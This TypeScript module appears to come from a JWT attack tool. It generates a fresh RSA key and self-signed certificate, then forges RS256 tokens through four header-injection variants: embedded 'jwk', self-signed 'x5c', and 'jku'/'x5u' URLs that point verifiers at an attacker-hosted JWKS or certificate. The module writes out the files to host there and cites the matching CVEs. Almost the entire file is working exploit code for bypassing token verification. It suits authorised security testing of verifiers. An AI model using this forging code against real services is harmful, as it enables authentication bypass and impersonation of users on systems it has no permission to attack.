/**
 * Variants that carry or point at a key the attacker made just now: an
 * embedded `jwk`, an `x5c` self-signed certificate, and `jku` / `x5u` URLs
 * with the JWKS or certificate to host there. One fresh RSA key signs them
 * all with RS256 (the algorithm every naive "use the key in the header"
 * verifier supports).
 */
import { calculateJwkThumbprint, exportJWK, generateKeyPair, type JWK } from 'jose';
import { encodePart } from '../jws/base64url';
import type { JsonObject } from '../jws/decode';
import { selfSignedCertificate } from '../examples/certificate';
import { headerPart, type Target } from './forge';
import type { AttackVariant } from './types';

const encoder = new TextEncoder();
// Header members that name the server's key: dropped so the attacker's key is the only one.
const KEY_MEMBERS = ['kid', 'jwk', 'jku', 'x5u', 'x5c', 'x5t', 'x5t#S256'];

/** The attacker's key pair, public JWK (with kid = thumbprint) and certificate. */
export interface AttackerKey {
  keys: CryptoKeyPair;
  jwk: JWK;
  certificatePem: string;
}

/** A fresh 2048-bit RSA key and a self-signed certificate for it. */
export async function makeAttackerKey(now: number): Promise<AttackerKey> {
  const keys = await generateKeyPair('RS256', { extractable: true, modulusLength: 2048 });
  const full = await exportJWK(keys.publicKey);
  const jwk: JWK = { kty: 'RSA', n: full.n, e: full.e };
  jwk.kid = await calculateJwkThumbprint(jwk, 'sha256');
  jwk.alg = 'RS256';
  jwk.use = 'sig';
  return { keys, jwk, certificatePem: await selfSignedCertificate(keys, 'attacker', now) };
}

async function rs256(key: AttackerKey, header: JsonObject, payload: string): Promise<string> {
  const input = `${headerPart(header)}.${payload}`;
  const signature = await crypto.subtle.sign(
    'RSASSA-PKCS1-v1_5',
    key.keys.privateKey,
    encoder.encode(input),
  );
  return `${input}.${encodePart(new Uint8Array(signature))}`;
}

function baseHeader(target: Target): JsonObject {
  const header: JsonObject = { ...target.header, alg: 'RS256' };
  for (const member of KEY_MEMBERS) delete header[member];
  return header;
}

/** The certificate's DER as standard base64, as `x5c` holds it (RFC 7515 §4.1.6). */
const certificateBase64 = (pem: string) => pem.replace(/-----[^-]+-----|\s/g, '');

/** Embedded `jwk` and `x5c` variants, and `jku`/`x5u` ones when `url` is given. */
export async function attackerKeyVariants(
  target: Target,
  key: AttackerKey,
  url: string,
): Promise<AttackVariant[]> {
  const base = baseHeader(target);
  const jwks = `${JSON.stringify({ keys: [key.jwk] }, null, 2)}\n`;
  const variants: AttackVariant[] = [
    {
      id: 'embedded-jwk',
      title: 'Embedded jwk (a key made just now)',
      explanation:
        'Signed with a fresh RSA key whose public half rides in the header as "jwk": a verifier that trusts the header\u2019s key accepts.',
      reference: 'CVE-2018-0114 (node-jose); RFC 7515 §4.1.3',
      token: await rs256(key, { ...base, jwk: key.jwk, kid: key.jwk.kid }, target.payload),
    },
    {
      id: 'x5c-self-signed',
      title: 'x5c with a self-signed certificate',
      explanation:
        'Signed with a fresh RSA key and its self-signed certificate in "x5c": a verifier that takes the leaf\u2019s key without checking the chain accepts.',
      reference: 'RFC 7515 §4.1.6; CVE-2017-2800 (wolfSSL), CWE-295',
      token: await rs256(
        key,
        { ...base, x5c: [certificateBase64(key.certificatePem)] },
        target.payload,
      ),
    },
  ];
  if (!url) return variants;
  variants.push(
    {
      id: 'jku',
      title: 'jku pointing at the attacker\u2019s JWKS',
      explanation: `"jku": "${url}" and the attacker key's kid: a verifier that fetches keys from the header's URL gets the attacker's JWKS (host jwks.json there).`,
      reference: 'RFC 7515 §4.1.2; CWE-918',
      token: await rs256(key, { ...base, jku: url, kid: key.jwk.kid }, target.payload),
      files: [{ name: 'jwks.json', mediaType: 'application/json', text: jwks }],
    },
    {
      id: 'x5u',
      title: 'x5u pointing at the attacker\u2019s certificate',
      explanation: `"x5u": "${url}": a verifier that fetches the certificate from the header's URL gets the attacker's (host certificate.pem there).`,
      reference: 'RFC 7515 §4.1.5; CWE-918',
      token: await rs256(key, { ...base, x5u: url }, target.payload),
      files: [
        { name: 'certificate.pem', mediaType: 'application/x-pem-file', text: key.certificatePem },
      ],
    },
  );
  return variants;
}
